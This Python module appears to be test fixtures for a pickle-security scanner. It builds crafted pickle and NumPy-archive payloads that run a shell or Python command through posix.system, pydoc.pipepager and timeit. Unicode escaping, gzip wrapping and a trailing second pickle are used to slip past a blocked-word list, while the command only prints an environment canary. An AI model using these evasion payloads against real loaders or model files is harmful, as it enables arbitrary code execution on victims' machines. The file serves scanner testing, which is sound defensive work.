"""Files that print the shop's code when they are loaded, past the words that the shop refuses. They do nothing else."""

from __future__ import annotations

import gzip
import io
import zipfile
from collections.abc import Callable, Mapping
from types import MappingProxyType

from bartizan.range.intake.models import pickled

_SHELL = "echo $SHOP_CODE"
_PYTHON = 'import os;print(os.environ["SHOP_CODE"])'


def _text(value: str, *, escaped: bool = False) -> bytes:
    return b"V" + ("".join(f"\\u{ord(one):04x}" for one in value).encode() if escaped else value.encode()) + b"\n"


def _call(module: str, name: str, *arguments: str, escaped: bool = False) -> bytes:
    """``module.name(*arguments)`` as a pickle of protocol 4."""
    named = _text(module, escaped=escaped) + _text(name, escaped=escaped) + b"\x93"
    return b"\x80\x04" + named + b"(" + b"".join(map(_text, arguments)) + b"tR."


def _escaped() -> bytes:
    return _call("posix", "system", _SHELL, escaped=True)


def _squeezed() -> bytes:
    return gzip.compress(_escaped())


def _pager() -> bytes:
    return _call("pydoc", "pipepager", "", _SHELL)


def _timer() -> bytes:
    return _call("timeit", "timeit", "pass", _PYTHON)


def _second() -> bytes:
    return pickled([1.0, 1.0], 0.0)[:-1] + b"0" + _escaped()[2:]


def _objects() -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    array = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + _escaped()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("weights.npy", array)
        archive.writestr("bias.npy", array)
    return out.getvalue()


HOSTILE: Mapping[str, Callable[[], bytes]] = MappingProxyType(
    {
        "escaped": _escaped,
        "squeezed": _squeezed,
        "pager": _pager,
        "timer": _timer,
        "second": _second,
        "objects": _objects,
    }
)
"""By name."""
